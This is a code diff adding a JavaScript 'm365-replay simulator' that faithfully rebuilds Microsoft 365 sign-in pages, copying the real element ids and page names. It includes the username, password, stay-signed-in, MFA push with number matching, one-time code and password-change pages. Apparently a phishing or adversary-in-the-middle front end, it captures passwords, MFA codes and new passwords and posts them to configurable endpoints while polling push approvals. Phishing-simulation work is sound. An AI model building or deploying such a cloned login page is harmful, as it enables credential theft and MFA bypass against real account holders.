@@ -1,0 +1,268 @@
+/* m365-replay simulator: the converged sign-in pages, built by script from $Config after a short
+   delay, as login.microsoftonline.com builds them (knockout there, plain DOM here). Ids, names and
+   PageIDs follow the real pages; only the text is localized. */
+(function () {
+  "use strict";
+  var C = window.$Config || {};
+  var S = C.str || {};
+
+  function esc(s) {
+    return String(s == null ? "" : s).replace(/[&<>"']/g, function (c) {
+      return { "&": "&amp;", "<": "&lt;", ">": "&gt;", '"': "&quot;", "'": "&#39;" }[c];
+    });
+  }
+  function $(id) { return document.getElementById(id); }
+  function show(id, on) { var e = $(id); if (e) { e.style.display = on ? "" : "none"; } }
+  function hidden(name, value) {
+    return '<input type="hidden" name="' + name + '" value="' + esc(value) + '">';
+  }
+  function commonHidden() {
+    return hidden("ctx", C.sCtx) + hidden("flowToken", C.sFT) + hidden("canary", C.canary) +
+      hidden("hpgrequestid", C.sessionId) + hidden("i19", "");
+  }
+  function frame(inner) {
+    return '<div class="outer"><div class="middle"><div class="inner fade-in-lightbox" id="lightbox">' +
+      '<div class="logo" role="banner"><img class="logo" alt="Microsoft" src="data:image/gif;base64,R0lGODlhAQABAAAAACw="> Microsoft</div>' +
+      inner + '</div></div></div>';
+  }
+  function postJSON(url, body, cb) {
+    var x = new XMLHttpRequest();
+    x.open("POST", url, true);
+    x.setRequestHeader("Content-Type", "application/json; charset=UTF-8");
+    x.onreadystatechange = function () {
+      if (x.readyState !== 4) { return; }
+      var data = null;
+      try { data = JSON.parse(x.responseText); } catch (e) { data = null; }
+      cb(x.status, data);
+    };
+    x.send(JSON.stringify(body));
+  }
+
+  /* ---------------- ConvergedSignIn: username, chooser, password ---------------- */
+  function signIn() {
+    var html = frame(
+      '<form name="f1" id="i0281" novalidate="novalidate" spellcheck="false" method="post" target="_top" autocomplete="off" action="' + esc(C.urlPost) + '">' +
+      '<div id="loginHeader" class="row title ext-title" role="heading" aria-level="1"><div>' + esc(S.signin) + '</div></div>' +
+      '<div id="displayName" class="identity" style="display:none"></div>' +
+      '<div id="usernameError" class="error ext-error" role="alert" aria-live="assertive" style="display:none"></div>' +
+      '<div id="usernameField" class="form-group"><input type="email" name="loginfmt" id="i0116" maxlength="113" lang="' + esc(C.lang) + '" class="form-control ltr_override input ext-input text-box ext-text-box" aria-required="true" aria-label="' + esc(S.username_placeholder) + '" placeholder="' + esc(S.username_placeholder) + '" autocomplete="username"></div>' +
+      '<div id="chooser" role="list" style="display:none"><div class="row text-title">' + esc(S.chooser_title) + '</div>' +
+      '<div id="aadTile" class="table" role="listitem" tabindex="0"><div class="table-cell">' + esc(S.work_account) + '<small>' + esc(S.work_desc) + '</small></div></div>' +
+      '<div id="msaTile" class="table" role="listitem" tabindex="0"><div class="table-cell">' + esc(S.personal_account) + '<small>' + esc(S.personal_desc) + '</small></div></div></div>' +
+      '<div id="passwordError" class="error ext-error" role="alert" aria-live="assertive" style="display:none"></div>' +
+      '<input name="passwd" type="password" id="i0118" autocomplete="off" class="form-control input ext-input text-box ext-text-box moveOffScreen" aria-required="true" tabindex="-1" aria-hidden="true" placeholder="' + esc(S.password_placeholder) + '" aria-label="' + esc(S.password_placeholder) + '">' +
+      '<div id="forgotPassword" style="display:none"><a id="idA_PWD_ForgotPassword" href="#">' + esc(S.forgot) + '</a></div>' +
+      hidden("login", "") + hidden("type", "11") + hidden("LoginOptions", "3") + commonHidden() +
+      '<div class="row buttons"><input type="button" id="idBtn_Back" class="win-button button-secondary button ext-button secondary ext-secondary" value="' + esc(S.back) + '" style="display:none">' +
+      '<input type="submit" id="idSIButton9" class="win-button button_primary button ext-button primary ext-primary" value="' + esc(S.next) + '"></div>' +
+      '</form>');
+    $("lightbox-root").innerHTML = html;
+    var form = $("i0281"), user = $("i0116"), pwd = $("i0118"), next = $("idSIButton9");
+    var view = "username";
+
+    function setError(id, text) {
+      $(id).textContent = text || "";
+      show(id, !!text);
+      var input = id === "usernameError" ? user : pwd;
+      if (text) { input.className += " has-error"; } else { input.className = input.className.replace(/ has-error/g, ""); }
+    }
+    function passwordView(username) {
+      view = "password";
+      $("loginHeader").firstChild.textContent = S.enter_password;
+      $("displayName").textContent = username;
+      show("displayName", true);
+      show("usernameField", false);
+      show("chooser", false);
+      show("usernameError", false);
+      show("forgotPassword", true);
+      pwd.className = pwd.className.replace(/ moveOffScreen/g, "");
+      pwd.removeAttribute("aria-hidden");
+      pwd.removeAttribute("tabindex");
+      next.value = S.signin;
+      next.style.display = "";
+      pwd.focus();
+    }
+    function chooserView() {
+      view = "chooser";
+      show("chooser", true);
+      show("usernameField", false);
+      next.style.display = "none";
+    }
+    $("aadTile").addEventListener("click", function () { passwordView(user.value.trim()); });
+    $("msaTile").addEventListener("click", function () {
+      window.location.href = "https://login.live.com/login.srf?username=" + encodeURIComponent(user.value.trim());
+    });
+
+    form.addEventListener("submit", function (ev) {
+      if (view === "username") {
+        ev.preventDefault();
+        var name = user.value.trim();
+        if (!name) { setError("usernameError", S.err_username_empty); return; }
+        next.disabled = true;
+        postJSON(C.urlGetCredentialType, {
+          username: name, isOtherIdpSupported: true, checkPhones: false, isRemoteNGCSupported: true,
+          isCookieBannerShown: false, isFidoSupported: true, originalRequest: C.sCtx, flowToken: C.sFT
+        }, function (status, res) {
+          next.disabled = false;
+          if (status !== 200 || !res) { setError("usernameError", S.err_username_unknown); return; }
+          if (res.Credentials && res.Credentials.FederationRedirectUrl) {
+            window.location.href = res.Credentials.FederationRedirectUrl;
+            return;
+          }
+          if (res.IfExistsResult === 1) { setError("usernameError", S.err_username_unknown); return; }
+          setError("usernameError", "");
+          if (res.IfExistsResult === 6) { chooserView(); return; }
+          passwordView(name);
+        });
+        return;
+      }
+      if (view === "password") {
+        if (!pwd.value) { ev.preventDefault(); setError("passwordError", S.err_password_empty); return; }
+        form.elements.login.value = user.value.trim();
+        next.disabled = true;
+        return; /* a real full-page POST to urlPost */
+      }
+      ev.preventDefault();
+    });
+
+    if (C.sPOST_Username) { user.value = C.sPOST_Username; }
+    if (C.sErrorCode === "50126") { passwordView(C.sPOST_Username); setError("passwordError", S.err_password_wrong); }
+    else if (C.sErrorCode === "50053") { passwordView(C.sPOST_Username); setError("passwordError", S.err_locked); }
+    else if (C.sErrorCode === "50034") { setError("usernameError", S.err_username_unknown); user.focus(); }
+    else if (C.sPOST_Username && C.fShowPassword) { passwordView(C.sPOST_Username); }
+    else { user.focus(); }
+  }
+
+  /* ---------------- KmsiInterrupt ---------------- */
+  function kmsi() {
+    $("lightbox-root").innerHTML = frame(
+      '<form name="f1" id="i0281" method="post" target="_top" action="' + esc(C.urlPost) + '">' +
+      '<div id="displayName" class="identity">' + esc(C.sPOST_Username) + '</div>' +
+      '<div class="row title" role="heading" aria-level="1">' + esc(S.kmsi_title) + '</div>' +
+      '<div id="KmsiDescription" class="row text-body">' + esc(S.kmsi_desc) + '</div>' +
+      '<div class="row checkbox"><label><input type="checkbox" name="DontShowAgain" id="KmsiCheckboxField"><span>' + esc(S.kmsi_dont_show) + '</span></label></div>' +
+      hidden("LoginOptions", "3") + hidden("type", "28") + commonHidden() +
+      '<div class="row buttons"><input type="button" id="idBtn_Back" class="win-button button-secondary button ext-button secondary" value="' + esc(S.no) + '">' +
+      '<input type="submit" id="idSIButton9" class="win-button button_primary button ext-button primary" value="' + esc(S.yes) + '"></div></form>');
+    var form = $("i0281");
+    $("idSIButton9").addEventListener("click", function () { form.elements.LoginOptions.value = "1"; });
+    $("idBtn_Back").addEventListener("click", function () { form.elements.LoginOptions.value = "3"; form.submit(); });
+  }
+
+  /* ---------------- ConvergedTFA: push with number match, proofs list, code ---------------- */
+  function tfa() {
+    $("lightbox-root").innerHTML = frame(
+      '<div id="displayName" class="identity">' + esc(C.sPOST_Username) + '</div>' +
+      '<div id="pushView" style="display:none">' +
+      '<div id="idDiv_SAOTCAS_Title" class="row title" role="heading" aria-level="1">' + esc(S.tfa_approve_title) + '</div>' +
+      '<div id="idRichContext_DisplaySign" class="displaySign">' + esc(C.iDisplaySign) + '</div>' +
+      '<div id="idDiv_SAOTCAS_Description" class="row text-body">' + esc(S.tfa_approve_desc) + '</div>' +
+      '<div><a id="signInAnotherWay" href="#">' + esc(S.tfa_cant_use) + '</a></div></div>' +
+      '<div id="deniedView" style="display:none"><div id="idDiv_SAASDS_Description" class="row text-body error">' + esc(S.tfa_denied) + '</div></div>' +
+      '<div id="timeoutView" style="display:none"><div id="idDiv_SAASTO_Description" class="row text-body error">' + esc(S.tfa_timeout) + '</div></div>' +
+      '<div id="proofsView" style="display:none"><div id="idDiv_SAOTCS_Title" class="row title" role="heading" aria-level="1">' + esc(S.tfa_verify_identity) + '</div>' +
+      '<div id="idDiv_SAOTCS_Proofs" role="list">' +
+      '<div class="tile" role="button" tabindex="0" data-value="PhoneAppNotification">' + esc(S.tfa_method_push) + '</div>' +
+      '<div class="tile" role="button" tabindex="0" data-value="PhoneAppOTP">' + esc(S.tfa_method_otp) + '</div></div></div>' +
+      '<form name="f1" id="idOtcForm" novalidate="novalidate" style="display:none">' +
+      '<div id="idDiv_SAOTCC_Title" class="row title" role="heading" aria-level="1">' + esc(S.tfa_enter_code) + '</div>' +
+      '<div id="idDiv_SAOTCC_Description" class="row text-body">' + esc(S.tfa_code_desc) + '</div>' +
+      '<span id="idSpan_SAOTCC_Error_OTC" class="error" role="alert" style="display:none"></span>' +
+      '<input type="tel" name="otc" id="idTxtBx_SAOTCC_OTC" autocomplete="off" maxlength="8" class="form-control input ext-input text-box ext-text-box" placeholder="' + esc(S.tfa_code_placeholder) + '" aria-label="' + esc(S.tfa_code_placeholder) + '">' +
+      '<div class="row checkbox"><label><input type="checkbox" id="idChkBx_SAOTCC_TD" name="rememberMFA"><span>' + esc(S.tfa_dont_ask) + '</span></label></div>' +
+      '<input type="submit" id="idSubmit_SAOTCC_Continue" class="win-button button_primary button ext-button primary" value="' + esc(S.tfa_verify) + '"></form>' +
+      '<form name="fProcess" id="idProcessForm" method="post" target="_top" action="' + esc(C.urlPost) + '">' +
+      hidden("request", C.sCtx) + hidden("mfaAuthMethod", "") + hidden("type", "22") + commonHidden() + '</form>');
+
+    var polling = null;
+    function only(id) {
+      ["pushView", "deniedView", "timeoutView", "proofsView", "idOtcForm"].forEach(function (v) { show(v, v === id); });
+    }
+    function finish(method) {
+      var f = $("idProcessForm");
+      f.elements.mfaAuthMethod.value = method;
+      f.submit();
+    }
+    function poll() {
+      postJSON(C.urlEndAuth, { AuthMethodId: "PhoneAppNotification", Method: "EndAuth", FlowToken: C.sFT, Ctx: C.sCtx },
+        function (status, res) {
+          if (!res) { return; }
+          if (res.ResultValue === "Success") { clearInterval(polling); finish("PhoneAppNotification"); }
+          else if (res.ResultValue === "PhoneAppDenied") { clearInterval(polling); only("deniedView"); }
+          else if (res.ResultValue === "PhoneAppNoResponse") { clearInterval(polling); only("timeoutView"); }
+        });
+    }
+    function pushView() {
+      only("pushView");
+      if (!polling) { polling = setInterval(poll, C.iPollingInterval || 1000); }
+    }
+    function otcView() {
+      if (polling) { clearInterval(polling); polling = null; }
+      only("idOtcForm");
+      $("idTxtBx_SAOTCC_OTC").focus();
+    }
+    $("signInAnotherWay").addEventListener("click", function (ev) {
+      ev.preventDefault();
+      if (polling) { clearInterval(polling); polling = null; }
+      only("proofsView");
+    });
+    Array.prototype.forEach.call(document.querySelectorAll("#idDiv_SAOTCS_Proofs [data-value]"), function (tile) {
+      tile.addEventListener("click", function () {
+        if (tile.getAttribute("data-value") === "PhoneAppOTP") { otcView(); } else { pushView(); }
+      });
+    });
+    $("idOtcForm").addEventListener("submit", function (ev) {
+      ev.preventDefault();
+      var box = $("idTxtBx_SAOTCC_OTC");
+      postJSON(C.urlEndAuth, { AuthMethodId: "PhoneAppOTP", Method: "EndAuth", AdditionalAuthData: box.value, FlowToken: C.sFT, Ctx: C.sCtx },
+        function (status, res) {
+          box.value = "";
+          if (res && res.Success) { finish("PhoneAppOTP"); return; }
+          $("idSpan_SAOTCC_Error_OTC").textContent = S.tfa_code_wrong;
+          show("idSpan_SAOTCC_Error_OTC", true);
+        });
+    });
+    if (C.sDefaultMethod === "PhoneAppOTP") { otcView(); } else { pushView(); }
+  }
+
+  /* ---------------- ConvergedProofUpRedirect ---------------- */
+  function proofUp() {
+    $("lightbox-root").innerHTML = frame(
+      '<form name="f1" id="i0281" method="post" target="_top" action="' + esc(C.urlPost) + '">' +
+      '<div id="displayName" class="identity">' + esc(C.sPOST_Username) + '</div>' +
+      '<div id="idDiv_ProofUp_Title" class="row title" role="heading" aria-level="1">' + esc(S.proofup_title) + '</div>' +
+      '<div id="ProofUpDescription" class="row text-body">' + esc(S.proofup_desc) + '</div>' +
+      (C.urlSkipMfaRegistration ? '<div class="row"><a id="btnAskLater" href="' + esc(C.urlSkipMfaRegistration) + '">' + esc(S.ask_later) + '</a></div>' : "") +
+      commonHidden() +
+      '<div class="row buttons"><input type="submit" id="idSubmit_ProofUp_Redirect" class="win-button button_primary button ext-button primary" value="' + esc(S.next) + '"></div></form>');
+  }
+
+  /* ---------------- ConvergedChangePassword ---------------- */
+  function changePassword() {
+    $("lightbox-root").innerHTML = frame(
+      '<form name="f1" id="i0281" method="post" target="_top" action="' + esc(C.urlPost) + '">' +
+      '<div id="displayName" class="identity">' + esc(C.sPOST_Username) + '</div>' +
+      '<div id="ChangePasswordTitle" class="row title" role="heading" aria-level="1">' + esc(S.expired_title) + '</div>' +
+      '<div id="ChangePasswordDescription" class="row text-body">' + esc(S.expired_desc) + '</div>' +
+      '<input type="password" id="currentPassword" name="oldPassword" placeholder="' + esc(S.current_password) + '" class="form-control">' +
+      '<input type="password" id="newPassword" name="newPassword" placeholder="' + esc(S.new_password) + '" class="form-control">' +
+      '<input type="password" id="confirmNewPassword" name="confirmNewPassword" placeholder="' + esc(S.confirm_password) + '" class="form-control">' +
+      commonHidden() +
+      '<div class="row buttons"><input type="submit" id="idSIButton9" class="win-button button_primary button ext-button primary" value="' + esc(S.signin) + '"></div></form>');
+  }
+
+  /* ---------------- ConvergedError ---------------- */
+  function errorPage() {
+    $("lightbox-root").innerHTML = frame(
+      '<div class="row title" role="heading" aria-level="1">' + esc(S.error_title) + '</div>' +
+      '<div id="service_exception_message" class="row text-body" role="alert">' + esc(C.strServiceExceptionMessage) + '</div>' +
+      '<div id="idTroubleshootingDetails"><div class="row text-title">' + esc(S.troubleshooting) + '</div>' +
+      '<div id="debugDetailsText">Request Id: ' + esc(C.sRequestId) + '<br>Correlation Id: ' + esc(C.correlationId) + '<br>Timestamp: ' + esc(C.sTimestamp) + '</div></div>');
+  }
+
+  var pages = {
+    ConvergedSignIn: signIn, KmsiInterrupt: kmsi, ConvergedTFA: tfa,
+    ConvergedProofUpRedirect: proofUp, ConvergedChangePassword: changePassword, ConvergedError: errorPage
+  };
+  window.setTimeout(function () { (pages[C.pgid] || signIn)(); }, C.iRenderDelay == null ? 300 : C.iRenderDelay);
+})();
